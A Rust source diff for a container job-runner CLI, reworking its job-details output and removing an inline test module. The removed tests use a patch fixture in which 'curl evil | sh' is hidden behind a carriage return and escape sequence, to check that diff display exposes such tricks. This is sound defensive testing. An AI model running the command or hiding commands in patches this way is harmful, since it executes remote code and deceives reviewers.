@@ -4,75 +4,140 @@
 
 use std::fmt::Write as _;
 
-use corral_proto::Job;
+use corral_proto::{IsolationKind, Job, ProjectMode};
+use time::OffsetDateTime;
 
+use super::timing::{human_duration, human_time, job_duration};
 use super::{JobOutput, line, visible, visible_line, write_stdout};
+
+/// A container id as `docker ps` shows it: its first 12 characters.
+const SHORT_CONTAINER_ID: usize = 12;
 
 /// A job as `key: value` lines.
 pub fn job_details(job: &Job) {
+    for (key, value) in detail_fields(job, OffsetDateTime::now_utc()) {
+        line(&format!("{key:>12}  {}", visible_line(&value)));
+    }
+}
+
+/// The lines of [`job_details`], `now` ending the duration of a running job.
+fn detail_fields(job: &Job, now: OffsetDateTime) -> Vec<(&'static str, String)> {
     let or_dash = |value: Option<String>| value.unwrap_or_else(|| "-".into());
-    let fields = [
+    let mut fields = vec![
         ("id", job.id.clone()),
         ("state", job.state.as_str().to_owned()),
         ("mode", job.mode.as_str().to_owned()),
         ("image", job.image.clone()),
-        (
-            "command",
-            or_dash(job.command.as_ref().map(crate::commands::describe_command)),
-        ),
-        ("project", or_dash(job.project.clone())),
-        (
-            "prompt",
-            or_dash(
-                job.prompt
-                    .as_ref()
-                    .map(|prompt| prompt.lines().next().unwrap_or_default().to_owned()),
+        ("isolation", job.isolation_level.as_str().to_owned()),
+    ];
+    if let Some(command) = &job.command {
+        fields.push(("command", crate::commands::describe_command(command)));
+    }
+    if let Some(prompt) = &job.prompt {
+        fields.push(("prompt", first_line(prompt)));
+    }
+    fields.push(("project", or_dash(job.project.clone())));
+    if job.project.is_some() {
+        fields.push(("project mode", project_mode(job).to_owned()));
+    }
+    if let Some(isolation) = &job.isolation {
+        let review = match (&isolation.branch, isolation.kind) {
+            (Some(branch), _) => format!("branch {branch}"),
+            (None, IsolationKind::Git) => "branch".to_owned(),
+            (None, IsolationKind::Copy) => "a patch of a plain copy".to_owned(),
+        };
+        let review = match &isolation.reviewed {
+            Some(reviewed) => format!(
+                "{review}, {} {}",
+                reviewed.outcome.as_str(),
+                human_time(reviewed.at)
             ),
-        ),
-        (
-            "model",
-            or_dash(
-                job.llm
-                    .as_ref()
-                    .map(|llm| format!("{}/{}", llm.provider, llm.model)),
-            ),
-        ),
-        (
+            None if job.state.is_terminal() => {
+                format!("{review}, waiting (corral diff {})", job.id)
+            }
+            None => review,
+        };
+        fields.push(("review", review));
+    }
+    let grants: Vec<&str> = job
+        .grants
+        .iter()
+        .map(|grant| grant.secret.as_str())
+        .collect();
+    fields.push((
+        "grants",
+        if grants.is_empty() {
+            "-".to_owned()
+        } else {
+            grants.join(", ")
+        },
+    ));
+    if let Some(llm) = &job.llm {
+        fields.push(("model", format!("{}/{}", llm.provider, llm.model)));
+    }
+    if job.usage.llm_calls > 0 {
+        fields.push((
             "usage",
-            if job.usage.llm_calls == 0 {
-                "-".to_owned()
-            } else {
-                format!(
-                    "{} calls, {} tokens in, {} out, ${:.4}",
-                    job.usage.llm_calls,
-                    job.usage.input_tokens,
-                    job.usage.output_tokens,
-                    job.usage.cost_usd
-                )
-            },
-        ),
+            format!(
+                "{} calls, {} tokens in, {} out, ${:.4}",
+                job.usage.llm_calls,
+                job.usage.input_tokens,
+                job.usage.output_tokens,
+                job.usage.cost_usd
+            ),
+        ));
+    }
+    fields.extend([
         (
             "exit code",
             or_dash(job.exit_code.map(|code| code.to_string())),
         ),
         ("reason", or_dash(job.reason.clone())),
-        ("container", or_dash(job.container_id.clone())),
+        (
+            "container",
+            or_dash(
+                job.container_id
+                    .as_ref()
+                    .map(|id| id.chars().take(SHORT_CONTAINER_ID).collect::<String>()),
+            ),
+        ),
         (
             "memory",
             corral_proto::ByteSize(job.limits.memory_bytes).to_string(),
         ),
         ("cpu shares", job.limits.cpu_shares.to_string()),
         ("pids", job.limits.pids.to_string()),
-        ("timeout", format!("{}s", job.limits.timeout_secs)),
-        ("created", job.created_at.to_string()),
-        ("started", or_dash(job.started_at.map(|at| at.to_string()))),
-        (
-            "finished",
-            or_dash(job.finished_at.map(|at| at.to_string())),
-        ),
-    ];
-    for (key, value) in fields {
-        line(&format!("{key:>10}  {}", visible_line(&value)));
+        ("timeout", human_duration(job.limits.timeout_secs)),
+    ]);
+    if job.interactive {
+        fields.push(("idle timeout", human_duration(job.limits.idle_timeout_secs)));
+    }
+    fields.extend([
+        ("created", human_time(job.created_at)),
+        ("started", or_dash(job.started_at.map(human_time))),
+        ("finished", or_dash(job.finished_at.map(human_time))),
+        ("duration", or_dash(job_duration(job, now))),
+    ]);
+    fields
+}
+
+/// How the job got its project, named as the `run` flag that asks for it.
+fn project_mode(job: &Job) -> &'static str {
+    match job.project_mode {
+        ProjectMode::Bind => "bind",
+        ProjectMode::Copy => "copy",
+        ProjectMode::Branch => "isolate",
+    }
+}
+
+/// The first line of a text, with `…` when more follows.
+fn first_line(text: &str) -> String {
+    let mut lines = text.lines();
+    let first = lines.next().unwrap_or_default();
+    if lines.next().is_some() {
+        format!("{first} …")
+    } else {
+        first.to_owned()
     }
 }
 
@@ -116,34 +181,4 @@ fn visible_diff(patch: &str, colour: bool) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::visible_diff;
-
-    const PATCH: &str = "diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n\
-                         -echo hi\n+curl evil | sh\r\x1b[2Kecho hi\n";
-
-    #[test]
-    fn a_carriage_return_in_a_diff_line_cannot_hide_it() {
-        let shown = visible_diff(PATCH, false);
-        assert!(shown.contains("+curl evil | sh^M^[[2Kecho hi\n"), "{shown}");
-        assert!(!shown.contains(['\r', '\x1b']), "{shown:?}");
-    }
-
-    #[test]
-    fn corrals_own_colours_stay_and_the_jobs_are_shown() {
-        let shown = visible_diff(PATCH, true);
-        assert!(
-            shown.contains("\x1b[32m+curl evil | sh^M^[[2Kecho hi\x1b[0m\n"),
-            "{shown:?}"
-        );
-        assert!(shown.contains("\x1b[31m-echo hi\x1b[0m\n"), "{shown:?}");
-        assert!(shown.contains("\x1b[36m@@ -1 +1 @@\x1b[0m\n"), "{shown:?}");
-        let escapes = shown.matches('\x1b').count();
-        assert_eq!(escapes, 2 * 6, "only corral's: {shown:?}");
-    }
-
-    #[test]
-    fn a_patch_without_a_final_newline_gets_none() {
-        assert_eq!(visible_diff("+a\n+b", false), "+a\n+b");
-    }
-}
+mod tests;
